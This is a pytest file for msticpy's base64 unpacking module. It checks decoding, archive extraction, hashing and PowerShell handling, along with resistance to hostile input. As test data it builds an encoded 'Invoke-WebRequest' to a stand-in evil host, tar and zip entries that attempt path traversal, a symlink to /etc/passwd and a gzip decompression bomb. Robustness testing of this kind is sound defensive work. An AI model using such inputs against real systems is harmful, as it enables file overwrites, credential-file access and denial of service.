"""base64unpack: msticpy's API on the Rust engine, budgets and hostile archives."""

from __future__ import annotations

import base64
import gzip
import io
import json
import shutil
import subprocess
import sys
import tarfile
import textwrap
import zipfile

import pandas as pd
import pytest

from msticpy.transform import base64unpack as b64
from peak_memory import PEAK_RSS_SOURCE

FIELDS = [
    "reference",
    "original_string",
    "file_name",
    "file_type",
    "input_bytes",
    "decoded_string",
    "encoding_type",
    "file_hashes",
    "md5",
    "sha1",
    "sha256",
    "printable_bytes",
]


def b64s(data: bytes) -> str:
    return base64.b64encode(data).decode()


def test_plain_text_markup_and_record() -> None:
    text = "powershell -enc " + b64s(b"Invoke-WebRequest http://evil.example.com/x")
    decoded, frame = b64.unpack(text)
    assert decoded == (
        "powershell -enc <decoded type='string' name='[None]' index='1' depth='1'>"
        "Invoke-WebRequest http://evil.example.com/x</decoded>"
    )
    assert list(frame.columns) == FIELDS
    row = frame.iloc[0]
    assert row["reference"] == ("", "1.", "1")
    assert row["encoding_type"] == "utf-8"
    assert row["file_hashes"]["md5"] == row["md5"]
    assert row["input_bytes"] == b"Invoke-WebRequest http://evil.example.com/x"


def test_zip_members_and_helpers() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", "first member text")
        archive.writestr("b.txt", "second member text")
    blob = buffer.getvalue()
    decoded, frame = b64.unpack("x " + b64s(blob))
    assert "<decoded value='multiple binary' type='multiple' index='1' depth='1'>" in decoded
    assert list(frame["file_name"]) == ["a.txt", "b.txt"]
    assert set(frame["file_type"]) == {"zip"}
    assert b64.get_items_from_zip(blob) == (
        "zip",
        {"a.txt": b"first member text", "b.txt": b"second member text"},
    )
    assert b64.get_items_from_gzip(gzip.compress(b"hello")) == ("gz", {"gzip_file": b"hello"})
    assert b64.get_hashes(b"abc")["sha256"].startswith("ba7816bf")


def test_dataframe_columns_and_accessors() -> None:
    import msticpy.sectools  # noqa: F401  (classic accessors)
    from msticpy.sectools import base64unpack as classic

    assert classic is b64
    frame = pd.DataFrame(
        {"cmd": ["nothing here", "run " + b64s(b"hidden command line text!!")]}, index=[7, 9]
    )
    out = b64.unpack_df(frame, "cmd")
    assert list(out.columns) == [*FIELDS, "src_index", "cmd", "full_decoded_string"]
    assert list(out["src_index"]) == [9]
    pd.testing.assert_frame_equal(out, frame.mp_b64.extract(column="cmd"))
    pd.testing.assert_frame_equal(out, frame.mp.b64extract(column="cmd"))
    assert list(b64.unpack_df(frame.iloc[:1], "cmd").columns) == FIELDS
    with pytest.raises(ValueError, match="column"):
        b64.unpack_items(data=frame)


def test_truncated_gzip_is_a_status_not_an_exception() -> None:
    blob = gzip.compress(b"some text that will be cut off " * 4)
    _, frame = b64.unpack("x " + b64s(blob[: len(blob) // 2]))
    assert "truncated_gzip" in frame.attrs["b64_status"]


def test_tar_links_and_escaping_names_are_data() -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in [("../evil.txt", b"escape"), ("/abs/path.txt", b"absolute")]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        link = tarfile.TarInfo("passwd")
        link.type = tarfile.SYMTYPE
        link.linkname = "/etc/passwd"
        archive.addfile(link)
    # msticpy raises KeyError resolving the link; here it is data, never followed.
    kind, members = b64.get_items_from_tar(buffer.getvalue())
    assert kind == "tar"
    assert members == {"../evil.txt": b"escape", "/abs/path.txt": b"absolute", "passwd": b""}
    decoded, _ = b64.unpack("x " + b64s(buffer.getvalue()))
    assert decoded.startswith("x <decoded")
    with pytest.raises(tarfile.ReadError):
        b64.get_items_from_tar(b"not a tar archive at all" * 30)


BOMB = PEAK_RSS_SOURCE + textwrap.dedent(
    """
    import base64, io, json, sys, time, warnings, zlib
    warnings.simplefilter("ignore")
    from msticpy.transform.base64unpack import unpack
    # 1 GiB of zeros, gzip-compressed in a stream (about 1 MB), then base64.
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = bytes(1 << 20)
    gz = b"".join(comp.compress(chunk) for _ in range(1024)) + comp.flush()
    text = "x " + base64.b64encode(gz).decode()
    start = time.perf_counter()
    decoded, frame = unpack(text)
    print(json.dumps({
        "seconds": time.perf_counter() - start,
        "rss_mb": peak_rss_mb(),
        "status": frame.attrs["b64_status"],
        "b64_mb": len(text) / 2**20,
    }))
    """
)


def test_gzip_bomb_is_bounded() -> None:
    proc = subprocess.run([sys.executable, "-c", BOMB], capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr[-2000:]
    out = json.loads(proc.stdout.strip().splitlines()[-1])
    assert any("decode_max_item_bytes" in s for s in out["status"])
    assert out["rss_mb"] < 400
    assert out["seconds"] < 60


@pytest.mark.skipif(shutil.which("strace") is None, reason="strace not installed")
def test_nothing_is_written_to_disk(tmp_path) -> None:
    script = tmp_path / "decode.py"
    script.write_text(
        textwrap.dedent(
            """
            import base64, io, tarfile, zipfile
            from msticpy.transform.base64unpack import unpack
            buf = io.BytesIO()
            with zipfile.ZipFile(buf, "w") as z:
                z.writestr("../../evil.txt", "x" * 100)
                z.writestr("/etc/abs", "y" * 100)
            tbuf = io.BytesIO()
            with tarfile.open(fileobj=tbuf, mode="w") as t:
                info = tarfile.TarInfo("../up.txt"); info.size = 3
                t.addfile(info, io.BytesIO(b"abc"))
            import msticpy._native  # load everything before tracing the decode itself
            for blob in (buf.getvalue(), tbuf.getvalue()):
                unpack("x " + base64.b64encode(blob).decode())
            """
        )
    )
    trace = tmp_path / "trace.txt"
    proc = subprocess.run(
        [
            "strace",
            "-f",
            "-qq",
            "-o",
            str(trace),
            "-e",
            "trace=openat,creat,mkdir,mkdirat,symlink,symlinkat,link,linkat,rename,renameat2",
            sys.executable,
            str(script),
        ],
        capture_output=True,
        text=True,
        timeout=300,
        env={"PYTHONDONTWRITEBYTECODE": "1", "PATH": "/usr/bin:/bin"},
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    writes = [
        line
        for line in trace.read_text().splitlines()
        if any(flag in line for flag in ("O_WRONLY", "O_RDWR", "O_CREAT"))
        or line.split("(")[0].split()[-1]
        in {"mkdir", "mkdirat", "symlink", "symlinkat", "link", "linkat", "rename", "renameat2"}
    ]
    assert not writes, writes[:5]


def test_powershell_encoded_command_is_opt_in() -> None:
    command = "Write-Output hello-from-powershell".encode("utf-16-le")
    line = "powershell.exe -NoP -enc " + b64s(command)
    _, default = b64.unpack(line)
    assert default.iloc[0]["encoding_type"] == "utf-8"  # msticpy's reading
    decoded, frame = b64.unpack(line, powershell=True)
    assert frame.iloc[0]["encoding_type"] == "utf-16"
    assert "Write-Output hello-from-powershell</decoded>" in decoded
